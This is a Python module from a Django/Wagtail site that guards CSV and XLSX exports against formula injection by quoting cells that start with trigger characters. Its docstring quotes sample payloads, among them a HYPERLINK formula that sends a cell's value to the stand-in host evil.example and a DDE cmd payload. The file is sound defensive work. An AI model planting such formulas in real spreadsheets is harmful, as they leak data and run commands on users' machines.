"""Spreadsheet exports (CSV and XLSX) that cannot run formulas: the project's one rule.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
formula by spreadsheet software (``=HYPERLINK("https://evil.example/?"&A1)``, ``+cmd|' /c calc'!A0``,
``@SUM(...)``). Text of the public forms and of public searches reaches the exports, so every cell
written is passed through :func:`neutralise`, which prefixes such text with a quote (OWASP's
rule for CSV injection): the spreadsheet then shows the text as it was typed.

Where it applies:

- the project's own CSV files go through :func:`csv_response` (the laureates of a call, the
  laureates of all calls);
- the Wagtail admin's CSV and XLSX exports (the intake listings, the search terms typed by
  visitors, Wagtail's reports, and any listing added later) share Wagtail's
  ``SpreadsheetExportMixin``: :func:`protect_admin_exports` (called once at start-up, in
  ``PortalConfig.ready``) makes its value preprocessing apply the same rule, in both formats.
  Wagtail itself only turns cells starting with ``=`` into text in XLSX files, and nothing in CSV.

Patching the mixin rather than subclassing each view is deliberate: Wagtail's own reports and
search-terms view cannot be subclassed from here without replacing their URLs, and a listing
added later is covered without anyone having to remember it.

The laureate importer reads the exported CSV back: :func:`restore` removes the quote again.
"""

import csv

from django.http import HttpResponse

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """``value`` with a leading quote if it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def restore(value):
    """The text as typed, from a cell written by :func:`neutralise` (for importers)."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_TRIGGERS):
        return value[1:]
    return value


def csv_response(filename, fieldnames, rows):
    """A CSV download of ``rows`` (dicts keyed by ``fieldnames``), every cell neutralised, with
    a BOM so that spreadsheet software reads UTF-8 accents right."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write("\ufeff")
    writer = csv.DictWriter(response, fieldnames=fieldnames)
    writer.writeheader()
    writer.writerows({name: neutralise(value) for name, value in row.items()} for row in rows)
    return response


def protect_admin_exports():
    """Make the Wagtail admin's spreadsheet exports (CSV and XLSX) neutralise their cells."""
    # Lazy: Wagtail's admin views load models; this runs from PortalConfig.ready.
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    original = SpreadsheetExportMixin.preprocess_field_value
    if getattr(original, "neutralises_formulas", False):
        return

    def preprocess_field_value(self, field, value, export_format):
        return neutralise(original(self, field, value, export_format))

    preprocess_field_value.neutralises_formulas = True
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
